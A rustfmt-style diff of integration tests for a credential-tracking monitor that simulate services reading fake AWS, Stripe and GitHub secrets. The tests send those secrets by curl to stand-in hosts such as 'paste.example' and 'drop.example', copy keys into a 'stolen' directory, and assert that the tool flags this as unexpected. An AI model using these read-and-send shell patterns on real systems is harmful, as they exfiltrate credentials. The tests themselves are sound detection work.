@@ -36,7 +36,10 @@ credentials:
 
 static SCENE: LazyLock<Mutex<Scene>> = LazyLock::new(|| {
     let build = || -> Result<Scene> {
-        assert!(lab::is_root(), "the scenarios need root; `cargo xtask test` skips them without");
+        assert!(
+            lab::is_root(),
+            "the scenarios need root; `cargo xtask test` skips them without"
+        );
         let directory = tempfile::tempdir()?;
         let config = directory.path().join("config.yaml");
         std::fs::write(&config, POLICY)?;
@@ -53,7 +56,9 @@ static SCENE: LazyLock<Mutex<Scene>> = LazyLock::new(|| {
 
 /// One scenario at a time: each is judged by what it does alone.
 fn scene() -> MutexGuard<'static, Scene> {
-    SCENE.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
+    SCENE
+        .lock()
+        .unwrap_or_else(std::sync::PoisonError::into_inner)
 }
 
 impl Scene {
@@ -66,27 +71,42 @@ impl Scene {
     fn key(&self, number: u32) -> Result<PathBuf> {
         let home = self.directory.path().join(format!("home-{number}"));
         std::fs::create_dir_all(&home)?;
-        aws_credentials(&home, &format!("AKIAFAKELAB{number:09}"), &format!("FAKE/lab/secret/{number:024}"))
+        aws_credentials(
+            &home,
+            &format!("AKIAFAKELAB{number:09}"),
+            &format!("FAKE/lab/secret/{number:024}"),
+        )
     }
 
     fn hops(&self, credential: &str, wanted: impl Fn(&[Value]) -> bool) -> Result<Vec<Value>> {
-        let answer = self.agent.await_json(&["query", "where", credential], |answer| {
-            answer["hops"].as_array().is_some_and(|hops| wanted(hops))
-        })?;
+        let answer = self
+            .agent
+            .await_json(&["query", "where", credential], |answer| {
+                answer["hops"].as_array().is_some_and(|hops| wanted(hops))
+            })?;
         Ok(answer["hops"].as_array().cloned().unwrap_or_default())
     }
 
     /// The id of the only credential in an answer.
     fn id(&self, credential: &str) -> Result<String> {
-        let answer = self.agent.await_json(&["query", "who", credential], |answer| {
-            answer["uses"].as_array().is_some_and(|uses| !uses.is_empty())
-        })?;
-        Ok(answer["credentials"][0]["id"].as_str().context("no id")?.to_owned())
+        let answer = self
+            .agent
+            .await_json(&["query", "who", credential], |answer| {
+                answer["uses"]
+                    .as_array()
+                    .is_some_and(|uses| !uses.is_empty())
+            })?;
+        Ok(answer["credentials"][0]["id"]
+            .as_str()
+            .context("no id")?
+            .to_owned())
     }
 }
 
 fn names(hops: &[Value]) -> Vec<&str> {
-    hops.iter().filter_map(|hop| hop["destination"]["name"].as_str()).collect()
+    hops.iter()
+        .filter_map(|hop| hop["destination"]["name"].as_str())
+        .collect()
 }
 
 #[test]
@@ -95,10 +115,23 @@ fn a_key_goes_home_and_elsewhere() -> Result<()> {
     let key = scene.key(1)?.display().to_string();
     let good = Unit::new("lab-good.service")?;
     let bad = Unit::new("lab-bad.service")?;
-    good.sh(&format!("K=$(cat {key}); {}", scene.curl("s3.eu-central-1.amazonaws.com")), &[])?;
-    bad.sh(&format!("K=$(cat {key}); {}", scene.curl("paste.example")), &[])?;
+    good.sh(
+        &format!(
+            "K=$(cat {key}); {}",
+            scene.curl("s3.eu-central-1.amazonaws.com")
+        ),
+        &[],
+    )?;
+    bad.sh(
+        &format!("K=$(cat {key}); {}", scene.curl("paste.example")),
+        &[],
+    )?;
     let hops = scene.hops(&key, |hops| hops.len() == 2)?;
-    assert_eq!(names(&hops), ["paste.example", "s3.eu-central-1.amazonaws.com"], "the worst first");
+    assert_eq!(
+        names(&hops),
+        ["paste.example", "s3.eu-central-1.amazonaws.com"],
+        "the worst first"
+    );
     assert_eq!(hops[0]["verdict"], "unexpected");
     assert_eq!(hops[0]["evidence"], "sole");
     assert_eq!(hops[0]["workload"]["unit"], "lab-bad.service");
@@ -111,13 +144,27 @@ fn a_key_goes_home_and_elsewhere() -> Result<()> {
     assert_eq!(finding["severity"], "low", "nobody wrote an expectation");
     assert_eq!(finding["destination"]["name"], "paste.example");
     assert_eq!(finding["process"]["comm"], "curl");
-    let ancestors = finding["process"]["ancestors"].as_array().context("ancestors")?;
-    assert!(ancestors.iter().any(|ancestor| ancestor["comm"] == "bash"), "{ancestors:?}");
-    let radius = scene.agent.await_json(&["query", "blast-radius", "lab-bad.service"], |answer| {
-        answer["credentials"].as_array().is_some_and(|found| !found.is_empty())
-    })?;
+    let ancestors = finding["process"]["ancestors"]
+        .as_array()
+        .context("ancestors")?;
+    assert!(
+        ancestors.iter().any(|ancestor| ancestor["comm"] == "bash"),
+        "{ancestors:?}"
+    );
+    let radius =
+        scene
+            .agent
+            .await_json(&["query", "blast-radius", "lab-bad.service"], |answer| {
+                answer["credentials"]
+                    .as_array()
+                    .is_some_and(|found| !found.is_empty())
+            })?;
     assert_eq!(radius["credentials"][0]["credential"]["id"], id.as_str());
-    let labels = [r#"evidence="sole""#, r#"verdict="unexpected""#, r#"workload="lab-bad.service""#];
+    let labels = [
+        r#"evidence="sole""#,
+        r#"verdict="unexpected""#,
+        r#"workload="lab-bad.service""#,
+    ];
     assert!(scene.agent.metric("keytrail_hops_total", &labels)? >= 1.0);
     Ok(())
 }
@@ -126,7 +173,10 @@ fn a_key_goes_home_and_elsewhere() -> Result<()> {
 fn a_token_in_the_environment_is_fingerprinted_in_the_kernel() -> Result<()> {
     let scene = scene();
     let token = "ghp_FAKElabFAKElabFAKElabFAKElabFAKE0002";
-    sh(&format!("{} # {}", scene.curl("api.github.com"), 2), &[("GH_TOKEN", token)])?;
+    sh(
+        &format!("{} # {}", scene.curl("api.github.com"), 2),
+        &[("GH_TOKEN", token)],
+    )?;
     let hops = scene.hops("env:GH_TOKEN", |hops| !hops.is_empty())?;
     assert_eq!(names(&hops), ["api.github.com"]);
     assert_eq!(hops[0]["verdict"], "expected");
@@ -134,28 +184,55 @@ fn a_token_in_the_environment_is_fingerprinted_in_the_kernel() -> Result<()> {
     let home = scene.directory.path().join("gh/.config/gh");
     std::fs::create_dir_all(&home)?;
     let file = home.join("hosts.yml");
-    std::fs::write(&file, format!("github.com:\n    oauth_token: {token}\n    user: fake\n"))?;
+    std::fs::write(
+        &file,
+        format!("github.com:\n    oauth_token: {token}\n    user: fake\n"),
+    )?;
     sh(&format!("cat {} >/dev/null", file.display()), &[])?;
-    assert_eq!(scene.id(&file.display().to_string())?, scene.id("env:GH_TOKEN")?);
+    assert_eq!(
+        scene.id(&file.display().to_string())?,
+        scene.id("env:GH_TOKEN")?
+    );
     Ok(())
 }
 
 #[test]
 fn a_long_and_a_dressed_secret_have_one_fingerprint_everywhere() -> Result<()> {
     let scene = scene();
-    for (number, secret) in [(0, "FAKE-lab-short".to_owned()), (1, "FAKE".repeat(1300)), (2, "FAKEx".repeat(8))] {
+    for (number, secret) in [
+        (0, "FAKE-lab-short".to_owned()),
+        (1, "FAKE".repeat(1300)),
+        (2, "FAKEx".repeat(8)),
+    ] {
         let name = format!("KEYTRAIL_LAB_{number}_TOKEN");
         let dressed = format!("{name}_DRESSED_TOKEN");
-        sh("true && /bin/true", &[(&name, &secret), (&dressed, &format!("  \"Bearer {secret}\" "))])?;
+        sh(
+            "true && /bin/true",
+            &[
+                (&name, &secret),
+                (&dressed, &format!("  \"Bearer {secret}\" ")),
+            ],
+        )?;
         let directory = PathBuf::from(format!("/run/secrets/keytrail-lab-{number}"));
         std::fs::create_dir_all(&directory)?;
         std::fs::write(directory.join("any-name"), format!("{secret}\n"))?;
-        sh(&format!("cat {}/any-name > /dev/null", directory.display()), &[])?;
+        sh(
+            &format!("cat {}/any-name > /dev/null", directory.display()),
+            &[],
+        )?;
         let by_file = scene.id(&format!("{}/any-name", directory.display()));
         std::fs::remove_dir_all(&directory)?;
         let by_file = by_file?;
-        assert_eq!(scene.id(&format!("env:{name}"))?, by_file, "secret {number}");
-        assert_eq!(scene.id(&format!("env:{dressed}"))?, by_file, "dressed secret {number}");
+        assert_eq!(
+            scene.id(&format!("env:{name}"))?,
+            by_file,
+            "secret {number}"
+        );
+        assert_eq!(
+            scene.id(&format!("env:{dressed}"))?,
+            by_file,
+            "dressed secret {number}"
+        );
     }
     Ok(())
 }
@@ -167,12 +244,20 @@ fn an_aws_key_pair_in_the_environment_is_the_one_in_the_file() -> Result<()> {
     sh(&format!("cat {key} >/dev/null"), &[])?;
     let environment = [
         ("AWS_ACCESS_KEY_ID", "AKIAFAKELAB000000003"),
-        ("AWS_SECRET_ACCESS_KEY", "FAKE/lab/secret/000000000000000000000003"),
+        (
+            "AWS_SECRET_ACCESS_KEY",
+            "FAKE/lab/secret/000000000000000000000003",
+        ),
     ];
     sh("/bin/true; /bin/true", &environment)?;
     let id = scene.id(&key)?;
     let answer = scene.agent.await_json(&["query", "who", &id], |answer| {
-        let sources: Vec<&str> = answer["uses"].as_array().into_iter().flatten().filter_map(|used| used["source"].as_str()).collect();
+        let sources: Vec<&str> = answer["uses"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter_map(|used| used["source"].as_str())
+            .collect();
         sources.contains(&"file") && sources.contains(&"environment")
     })?;
     assert_eq!(answer["credentials"].as_array().map(Vec::len), Some(1));
@@ -183,14 +268,25 @@ fn an_aws_key_pair_in_the_environment_is_the_one_in_the_file() -> Result<()> {
 fn the_path_is_the_kernels_and_not_the_users() -> Result<()> {
     let scene = scene();
     let key = scene.key(4)?;
-    let home = key.parent().and_then(|path| path.parent()).context("a home")?;
+    let home = key
+        .parent()
+        .and_then(|path| path.parent())
+        .context("a home")?;
     let link = scene.directory.path().join("innocent.txt");
     std::os::unix::fs::symlink(&key, &link)?;
     sh(&format!("cat {} >/dev/null", link.display()), &[])?;
-    sh(&format!("cd {} && cat ./x/../.aws/credentials >/dev/null 2>&1 || cat .aws/./credentials >/dev/null", home.display()), &[])?;
-    let answer = scene.agent.await_json(&["query", "who", &key.display().to_string()], |answer| {
-        answer["uses"][0]["count"].as_u64() >= Some(2)
-    })?;
+    sh(
+        &format!(
+            "cd {} && cat ./x/../.aws/credentials >/dev/null 2>&1 || cat .aws/./credentials >/dev/null",
+            home.display()
+        ),
+        &[],
+    )?;
+    let answer = scene
+        .agent
+        .await_json(&["query", "who", &key.display().to_string()], |answer| {
+            answer["uses"][0]["count"].as_u64() >= Some(2)
+        })?;
     assert_eq!(answer["uses"][0]["workload"]["kind"], "host");
     Ok(())
 }
@@ -215,7 +311,13 @@ fn every_read_counts_once() -> Result<()> {
     let key = scene.key(6)?.display().to_string();
     sh(&format!("for i in $(seq 500); do : < {key}; done"), &[])?;
     scene.agent.await_json(&["query", "who", &key], |answer| {
-        answer["uses"].as_array().into_iter().flatten().filter_map(|used| used["count"].as_u64()).sum::<u64>() == 500
+        answer["uses"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter_map(|used| used["count"].as_u64())
+            .sum::<u64>()
+            == 500
     })?;
     Ok(())
 }
@@ -226,14 +328,20 @@ fn ipv6_and_a_second_connection() -> Result<()> {
     let key = scene.key(7)?.display().to_string();
     let port = scene.six.address.port();
     sh(
-        &format!("K=$(cat {key}); curl -sS --insecure --connect-to '::[::1]:{port}' https://six.example/ >/dev/null; {}", scene.curl("four.example")),
+        &format!(
+            "K=$(cat {key}); curl -sS --insecure --connect-to '::[::1]:{port}' https://six.example/ >/dev/null; {}",
+            scene.curl("four.example")
+        ),
         &[],
     )?;
     let hops = scene.hops(&key, |hops| hops.len() == 2)?;
     let mut found = names(&hops);
     found.sort_unstable();
     assert_eq!(found, ["four.example", "six.example"]);
-    assert!(hops.iter().any(|hop| hop["destination"]["address"] == "::1"));
+    assert!(
+        hops.iter()
+            .any(|hop| hop["destination"]["address"] == "::1")
+    );
     Ok(())
 }
 
@@ -249,9 +357,14 @@ fn two_credentials_are_held_and_raise_nothing() -> Result<()> {
     assert_eq!(hops[0]["evidence"], "held");
     assert_eq!(hops[0]["verdict"], "unproven");
     let id = scene.id(&key)?;
-    let raised: Vec<_> = scene.agent.findings()?.into_iter().filter(|finding| {
-        finding["rule"] == "unexpected-hop" && finding["credential"]["id"] == id.as_str()
-    }).collect();
+    let raised: Vec<_> = scene
+        .agent
+        .findings()?
+        .into_iter()
+        .filter(|finding| {
+            finding["rule"] == "unexpected-hop" && finding["credential"]["id"] == id.as_str()
+        })
+        .collect();
     assert!(raised.is_empty(), "{raised:?}");
     Ok(())
 }
@@ -261,7 +374,13 @@ fn unnamed_loopback_is_no_hop() -> Result<()> {
     let scene = scene();
     let key = scene.key(9)?.display().to_string();
     let port = scene.server.address.port();
-    sh(&format!("K=$(cat {key}); exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3; exec 3>&-; {}", scene.curl("after.example")), &[])?;
+    sh(
+        &format!(
+            "K=$(cat {key}); exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3; exec 3>&-; {}",
+            scene.curl("after.example")
+        ),
+        &[],
+    )?;
     let hops = scene.hops(&key, |hops| names(hops).contains(&"after.example"))?;
     assert_eq!(hops.len(), 1, "{hops:?}");
     Ok(())
@@ -275,7 +394,12 @@ fn written_expectations() -> Result<()> {
     std::fs::write(path.join("stripe"), "sk_live_FAKElabFAKElabFAKElab0010\n")?;
     let api = Unit::new("lab-api.service")?;
     let thief = Unit::new("lab-thief.service")?;
-    let read = |host: &str| format!("K=$(cat /run/secrets/keytrail-lab/stripe); {}", scene.curl(host));
+    let read = |host: &str| {
+        format!(
+            "K=$(cat /run/secrets/keytrail-lab/stripe); {}",
+            scene.curl(host)
+        )
+    };
     let ran = api
         .sh(&read("api.partner.example"), &[])
         .and_then(|_| api.sh(&read("api.stripe.com"), &[]))
@@ -284,16 +408,28 @@ fn written_expectations() -> Result<()> {
     std::fs::remove_dir_all(&path)?;
     let hops = found?;
     let verdict = |name: &str| {
-        hops.iter().find(|hop| hop["destination"]["name"] == name).map(|hop| hop["verdict"].clone())
+        hops.iter()
+            .find(|hop| hop["destination"]["name"] == name)
+            .map(|hop| hop["verdict"].clone())
     };
-    assert_eq!(verdict("api.partner.example"), Some("expected".into()), "written");
-    assert_eq!(verdict("api.stripe.com"), Some("expected".into()), "its home");
+    assert_eq!(
+        verdict("api.partner.example"),
+        Some("expected".into()),
+        "written"
+    );
+    assert_eq!(
+        verdict("api.stripe.com"),
+        Some("expected".into()),
+        "its home"
+    );
     assert_eq!(verdict("drop.example"), Some("unexpected".into()));
     let finding = scene.agent.await_finding(|finding| {
         finding["rule"] == "unexpected-hop" && finding["credential"]["name"] == "lab-stripe"
     })?;
     assert_eq!(finding["severity"], "medium", "an expectation was written");
-    let finding = scene.agent.await_finding(|finding| finding["rule"] == "unexpected-reader")?;
+    let finding = scene
+        .agent
+        .await_finding(|finding| finding["rule"] == "unexpected-reader")?;
     assert_eq!(finding["severity"], "high");
     assert_eq!(finding["workload"]["unit"], "lab-thief.service");
     assert_eq!(finding["credential"]["owner"], "team-payments");
@@ -306,7 +442,15 @@ fn a_copy_is_found() -> Result<()> {
     let key = scene.key(11)?;
     let copy = scene.directory.path().join("stolen/.aws");
     std::fs::create_dir_all(&copy)?;
-    sh(&format!("cp {} {}/credentials && cat {}/credentials >/dev/null", key.display(), copy.display(), copy.display()), &[])?;
+    sh(
+        &format!(
+            "cp {} {}/credentials && cat {}/credentials >/dev/null",
+            key.display(),
+            copy.display(),
+            copy.display()
+        ),
+        &[],
+    )?;
     let id = scene.id(&key.display().to_string())?;
     let finding = scene.agent.await_finding(|finding| {
         finding["rule"] == "credential-copied" && finding["credential"]["id"] == id.as_str()
@@ -320,9 +464,15 @@ fn a_terminal_is_a_person() -> Result<()> {
     let scene = scene();
     let path = scene.directory.path().join("service/.netrc");
     std::fs::create_dir_all(path.parent().context("a parent")?)?;
-    std::fs::write(&path, "machine a.example login b password FAKE-lab-netrc-12\n")?;
+    std::fs::write(
+        &path,
+        "machine a.example login b password FAKE-lab-netrc-12\n",
+    )?;
     // `script` gives the command a terminal of its own.
-    sh(&format!("script -qec 'cat {}' /dev/null >/dev/null", path.display()), &[])?;
+    sh(
+        &format!("script -qec 'cat {}' /dev/null >/dev/null", path.display()),
+        &[],
+    )?;
     let id = scene.id(&path.display().to_string())?;
     let finding = scene.agent.await_finding(|finding| {
         finding["rule"] == "human-use" && finding["credential"]["id"] == id.as_str()
@@ -339,20 +489,36 @@ fn a_jwt_tells_its_expiry() -> Result<()> {
     let path = PathBuf::from("/run/secrets/keytrail-lab-jwt");
     std::fs::create_dir_all(&path)?;
     std::fs::write(path.join("token"), token)?;
-    let ran = sh(&format!("K=$(cat {}/token); {}", path.display(), scene.curl("kubernetes.default.svc")), &[]);
+    let ran = sh(
+        &format!(
+            "K=$(cat {}/token); {}",
+            path.display(),
+            scene.curl("kubernetes.default.svc")
+        ),
+        &[],
+    );
     let file = format!("{}/token", path.display());
     let found = ran.and_then(|_| scene.hops(&file, |hops| !hops.is_empty()));
     std::fs::remove_dir_all(&path)?;
     assert_eq!(found?[0]["verdict"], "expected");
     let answer = scene.agent.await_json(&["inventory"], |_| true)?;
-    let item = answer["credentials"].as_array().into_iter().flatten().find(|item| {
-        item["sources"].as_array().is_some_and(|places| places.iter().any(|place| place["place"] == file.as_str()))
-    }).context("in the inventory")?;
+    let item = answer["credentials"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .find(|item| {
+            item["sources"]
+                .as_array()
+                .is_some_and(|places| places.iter().any(|place| place["place"] == file.as_str()))
+        })
+        .context("in the inventory")?;
     assert_eq!(item["class"], "k8s-service-account-token");
     assert_eq!(item["role"], "identity");
     assert_eq!(item["lifetime"], "short-lived");
     assert_eq!(item["expires_at"], "2020-09-13T13:26:40Z");
-    scene.agent.await_finding(|finding| finding["rule"] == "expired-credential-used" && finding["credential"]["id"] == item["id"])?;
+    scene.agent.await_finding(|finding| {
+        finding["rule"] == "expired-credential-used" && finding["credential"]["id"] == item["id"]
+    })?;
     Ok(())
 }
 
@@ -361,18 +527,45 @@ fn what_is_no_credential_is_not_reported() -> Result<()> {
     let scene = scene();
     let directory = scene.directory.path().join("plain");
     std::fs::create_dir_all(directory.join(".ssh"))?;
-    let plain = ["config.json", "credentials", "token", "ca.crt", ".ssh/known_hosts", ".ssh/id_rsa.pub", ".env.example"];
+    let plain = [
+        "config.json",
+        "credentials",
+        "token",
+        "ca.crt",
+        ".ssh/known_hosts",
+        ".ssh/id_rsa.pub",
+        ".env.example",
+    ];
     for name in plain {
-        std::fs::write(directory.join(name), "SOME_TOKEN=FAKE-plain-value-12345678\n")?;
+        std::fs::write(
+            directory.join(name),
+            "SOME_TOKEN=FAKE-plain-value-12345678\n",
+        )?;
     }
-    let files: Vec<String> = plain.iter().map(|name| directory.join(name).display().to_string()).collect();
-    sh(&format!("cat /etc/passwd {} > /dev/null; ls /etc/ssl/certs | head -3 >/dev/null", files.join(" ")), &[])?;
+    let files: Vec<String> = plain
+        .iter()
+        .map(|name| directory.join(name).display().to_string())
+        .collect();
+    sh(
+        &format!(
+            "cat /etc/passwd {} > /dev/null; ls /etc/ssl/certs | head -3 >/dev/null",
+            files.join(" ")
+        ),
+        &[],
+    )?;
     // What comes after them in the same ring has been judged after them.
     let key = scene.key(13)?.display().to_string();
     sh(&format!("cat {key} >/dev/null"), &[])?;
     scene.id(&key)?;
-    for file in files.iter().map(String::as_str).chain(["/etc/passwd", "env:PWD", "env:PATH"]) {
-        assert!(scene.agent.json(&["query", "who", file])?.is_none(), "{file}");
+    for file in files
+        .iter()
+        .map(String::as_str)
+        .chain(["/etc/passwd", "env:PWD", "env:PATH"])
+    {
+        assert!(
+            scene.agent.json(&["query", "who", file])?.is_none(),
+            "{file}"
+        );
     }
     Ok(())
 }
@@ -381,17 +574,25 @@ fn what_is_no_credential_is_not_reported() -> Result<()> {
 fn answers_over_http_are_those_of_the_cli() -> Result<()> {
     let scene = scene();
     let key = scene.key(14)?.display().to_string();
-    sh(&format!("K=$(cat {key}); {}", scene.curl("http.example")), &[])?;
+    sh(
+        &format!("K=$(cat {key}); {}", scene.curl("http.example")),
+        &[],
+    )?;
     scene.hops(&key, |hops| !hops.is_empty())?;
     for path in ["credentials", "workloads", "hops", "findings", "timeline"] {
         let (status, body) = scene.agent.get(&format!("/api/v1/{path}"))?;
         assert_eq!(status, 200, "{path}: {body}");
         let _: Value = serde_json::from_str(&body).with_context(|| path.to_owned())?;
     }
-    let (status, body) = scene.agent.get(&format!("/api/v1/where?credential={key}"))?;
+    let (status, body) = scene
+        .agent
+        .get(&format!("/api/v1/where?credential={key}"))?;
     assert_eq!(status, 200, "{body}");
     let over_http: Value = serde_json::from_str(&body)?;
-    let by_cli = scene.agent.json(&["query", "where", &key])?.context("an answer")?;
+    let by_cli = scene
+        .agent
+        .json(&["query", "where", &key])?
+        .context("an answer")?;
     assert_eq!(over_http["hops"], by_cli["hops"]);
     for (path, wanted) in [
         ("/api/v1/where", 400),
@@ -410,10 +611,28 @@ fn answers_over_http_are_those_of_the_cli() -> Result<()> {
 fn loss_is_counted_and_there_is_none() -> Result<()> {
     let scene = scene();
     let key = scene.key(15)?.display().to_string();
-    sh(&format!("for i in $(seq 300); do /bin/true; done; cat {key} >/dev/null"), &[])?;
+    sh(
+        &format!("for i in $(seq 300); do /bin/true; done; cat {key} >/dev/null"),
+        &[],
+    )?;
     scene.id(&key)?;
-    assert_eq!(scene.agent.metric("keytrail_events_lost_total", &[r#"stage="ring""#])?, 0.0);
-    assert!(scene.agent.metric("keytrail_events_total", &[r#"probe="process""#])? >= 900.0);
-    assert_eq!(scene.agent.metric("keytrail_probe_attached", &[r#"probe="hello""#])?, 1.0);
+    assert_eq!(
+        scene
+            .agent
+            .metric("keytrail_events_lost_total", &[r#"stage="ring""#])?,
+        0.0
+    );
+    assert!(
+        scene
+            .agent
+            .metric("keytrail_events_total", &[r#"probe="process""#])?
+            >= 900.0
+    );
+    assert_eq!(
+        scene
+            .agent
+            .metric("keytrail_probe_attached", &[r#"probe="hello""#])?,
+        1.0
+    );
     Ok(())
 }
